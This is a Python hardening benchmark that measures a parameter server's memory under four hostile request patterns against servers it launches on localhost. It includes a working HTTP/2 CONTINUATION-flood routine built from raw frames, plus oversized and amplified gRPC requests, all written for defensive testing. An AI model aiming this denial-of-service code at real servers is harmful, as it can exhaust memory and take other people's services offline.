"""Memory of a parameter server under hostile requests (issue 10), each beside a baseline
measured in the same run.

    python benchmarks/hardening.py [--json] [--flood-connections 100]

Starts ``paramserve ps`` (a token, a checkpoint root) as a child process and reads its peak
resident memory (VmHWM) before and after each attack:

- oversized_push: a Push stream whose header declares a 3 GiB gradient for a 6x4 variable,
  followed by 64 MiB of data; refused from the header (RESOURCE_EXHAUSTED).
- amplified_pull: a Pull naming one 1 KiB row a million times (8 MiB request); refused
  (INVALID_ARGUMENT: rows repeat).
- unauthenticated_large_calls: 32 concurrent 60 MiB Step calls without the credential;
  refused before the body is read (UNAUTHENTICATED).
- continuation_flood: N connections that send request headers and ~1 MB of HTTP/2
  CONTINUATION frames without ever acknowledging SETTINGS, held open. Resident memory while
  held, and the memory and connections the server still holds 22 s later, for a bare grpcio
  server with default options (the baseline) and for a server as paramserve runs it (HTTP/2
  settings timeout 10 s, idle timeout, connection cap, freed memory returned every 10 s).

Each result: the attacked server's peak memory growth in MB (value) beside its memory at the
baseline (baseline), and what the attacker got back.
"""

from __future__ import annotations

import argparse
import json
import os
import pathlib
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from concurrent import futures
from typing import Any

import grpc
import torch

SERVICE = "/paramserve.wire.v1.ParameterServer"


def memory_mb(pid: int, field: str = "VmHWM") -> float:
    """Standalone (tests import this module as benchmarks.hardening, without _common on the path)."""
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) / 1024
    raise RuntimeError(f"no {field} for {pid}")


def start_ps(directory: pathlib.Path, token: str) -> tuple[subprocess.Popen, str]:
    (directory / "token").write_text(token)
    port_file = directory / "ps.port.json"
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "paramserve.coordinator.commands.cli",
            "ps",
            "--port",
            "0",
            "--port-file",
            str(port_file),
            "--token-file",
            str(directory / "token"),
            "--checkpoint-root",
            str(directory / "ckpt"),
            "--log-level",
            "ERROR",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 120
    while not port_file.exists():
        if process.poll() is not None or time.monotonic() > deadline:
            raise RuntimeError("the parameter server did not start")
        time.sleep(0.05)
    return process, f"127.0.0.1:{json.loads(port_file.read_text())['port']}"


def setup_variables(address: str, token: str) -> None:
    from paramserve.psserver.client.ps_client import ClientConfig, ParameterServerClient
    from paramserve.psserver.protocol.optimizer_spec import OptimizerSpec

    with ParameterServerClient([address], ClientConfig(token=token)) as client:
        client.create_variable("w", torch.zeros(6, 4), optimizer=OptimizerSpec("SGD", {"lr": 0.1}))
        client.create_variable("t", torch.zeros(1000, 256), optimizer=OptimizerSpec("SGD", {"lr": 0.1}))


def oversized_push(address: str, token: str) -> str:
    from paramserve.psserver.runtime.security import bearer_metadata
    from paramserve.wire.v1 import tensor_pb2

    part = tensor_pb2.PushPart(
        ref=tensor_pb2.ShardRef(variable="w", shard=0), values=tensor_pb2.TensorMeta(dtype="float32", shape=[3 << 28])
    )
    data = b"\0" * (4 << 20)

    def chunks():
        yield tensor_pb2.Chunk(header=tensor_pb2.PartHeader(push=part, payload_bytes=3 << 30)).SerializeToString()
        for _ in range(16):
            yield tensor_pb2.Chunk(data=data).SerializeToString()

    return _status(
        lambda channel: channel.stream_unary(f"{SERVICE}/Push")(
            chunks(), timeout=60, metadata=[bearer_metadata(token), ("paramserve-idempotency-key", "k")]
        ),
        address,
    )


def amplified_pull(address: str, token: str) -> str:
    from paramserve.psserver.runtime.security import bearer_metadata
    from paramserve.wire.v1 import parameter_server_pb2 as ps_pb2
    from paramserve.wire.v1 import tensor_pb2

    rows = torch.zeros(1 << 20, dtype=torch.int64).numpy().tobytes()
    item = ps_pb2.PullItem(ref=tensor_pb2.ShardRef(variable="t", shard=0), sparse=True, row_indices=rows)
    request = ps_pb2.PullRequest(items=[item]).SerializeToString()
    return _status(
        lambda channel: list(
            channel.unary_stream(f"{SERVICE}/Pull")(request, timeout=60, metadata=[bearer_metadata(token)])
        ),
        address,
    )


def unauthenticated_large_calls(address: str, calls: int = 32, size: int = 60 << 20) -> str:
    body = b"\1" * size
    options = [("grpc.max_send_message_length", 128 << 20)]
    with futures.ThreadPoolExecutor(calls) as pool:
        statuses = list(
            pool.map(
                lambda _: _status(
                    lambda channel: channel.unary_unary(f"{SERVICE}/Step")(body, timeout=120), address, options
                ),
                range(calls),
            )
        )
    return ", ".join(sorted(set(statuses)))


def _status(call, address: str, options=()) -> str:
    with grpc.insecure_channel(address, options=list(options)) as channel:
        try:
            call(channel)
        except grpc.RpcError as err:
            return err.code().name
    return "OK"


# ---------------------------------------------------------------- the CONTINUATION flood


def _hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    return bytes(out + [value])


def _literal(name: bytes, value: bytes) -> bytes:  # literal header field without indexing, new name
    return b"\0" + _hpack_int(len(name), 7) + name + _hpack_int(len(value), 7) + value


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def flood_connection(port: int, frames: int, hold: threading.Event) -> None:
    path = b"/grpc.health.v1.Health/Check"
    headers = b"\x83\x86" + b"\x04" + _hpack_int(len(path), 7) + path  # POST, http, :path literal
    with socket.create_connection(("127.0.0.1", port), timeout=30) as conn:
        conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))  # preface, SETTINGS; never an ACK
        conn.sendall(_frame(1, 0, 1, headers))  # HEADERS without END_HEADERS
        block = b"".join(_frame(9, 0, 1, _literal(b"x-flood-%06d" % i, b"v" * 1000)) for i in range(frames))
        try:
            conn.sendall(block)
        except OSError:
            return
        hold.wait(60)


def flood_server(hardened: bool, ready: Any, stop: Any) -> None:
    from grpc_health.v1 import health, health_pb2_grpc

    from paramserve.psserver.runtime.memory import MemoryTrimmer
    from paramserve.psserver.runtime.serving import server_options

    options = server_options(64 << 20) if hardened else [("grpc.so_reuseport", 0)]
    if hardened:  # as every paramserve server: freed memory goes back to the system
        MemoryTrimmer().start()
    server = grpc.server(futures.ThreadPoolExecutor(4), options=options)
    health_pb2_grpc.add_HealthServicer_to_server(health.HealthServicer(), server)
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    ready.put(port)
    stop.wait(300)
    server.stop(0)


def _sockets(pid: int) -> int:
    fd = pathlib.Path(f"/proc/{pid}/fd")
    return sum(1 for entry in fd.iterdir() if os.readlink(entry).startswith("socket:"))


def continuation_flood(hardened: bool, connections: int) -> dict[str, float]:
    import multiprocessing

    context = multiprocessing.get_context("spawn")
    ready, stop = context.Queue(), context.Event()
    process = context.Process(target=flood_server, args=(hardened, ready, stop))
    process.start()
    port = ready.get(timeout=120)
    assert process.pid is not None
    before = memory_mb(process.pid, "VmRSS")
    hold = threading.Event()
    threads = [threading.Thread(target=flood_connection, args=(port, 1000, hold)) for _ in range(connections)]
    for thread in threads:
        thread.start()
    time.sleep(3)  # let the frames arrive (the flood has no completion to wait on)
    held = memory_mb(process.pid, "VmRSS")
    sockets_held = _sockets(process.pid)
    time.sleep(22)  # past paramserve's 10 s HTTP/2 settings timeout, and a memory trim (every 10 s)
    sockets_after = _sockets(process.pid)
    rss_after = memory_mb(process.pid, "VmRSS")
    hold.set()
    for thread in threads:
        thread.join(60)
    stop.set()
    process.join(60)
    return {
        "rss_before_mb": round(before, 1),
        "rss_held_mb": round(held, 1),
        "rss_after_22s_mb": round(rss_after, 1),
        "sockets_held": sockets_held,
        "sockets_after_22s": sockets_after,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--flood-connections", type=int, default=200)
    args = parser.parse_args()
    results = []
    token = "benchmark-token-0123456789"
    with tempfile.TemporaryDirectory() as scratch:
        process, address = start_ps(pathlib.Path(scratch), token)
        try:
            setup_variables(address, token)
            for name, attack in (
                ("oversized_push", lambda: oversized_push(address, token)),
                ("amplified_pull", lambda: amplified_pull(address, token)),
                ("unauthenticated_large_calls", lambda: unauthenticated_large_calls(address)),
            ):
                baseline = memory_mb(process.pid)
                status = attack()
                results.append(
                    {
                        "metric": name,
                        "value": round(memory_mb(process.pid) - baseline, 1),
                        "unit": "MB peak growth",
                        "baseline": round(baseline, 1),
                        "status": status,
                    }
                )
        finally:
            process.terminate()
            process.wait(60)
    for hardened in (False, True):
        flood = continuation_flood(hardened, args.flood_connections)
        results.append(
            {
                "metric": "continuation_flood_" + ("paramserve_options" if hardened else "grpc_defaults"),
                "value": round(flood["rss_held_mb"] - flood["rss_before_mb"], 1),
                "unit": "MB while held",
                "baseline": flood["rss_before_mb"],
                **flood,
            }
        )
    for result in results:
        print(json.dumps(result) if args.json else result)


if __name__ == "__main__":
    main()
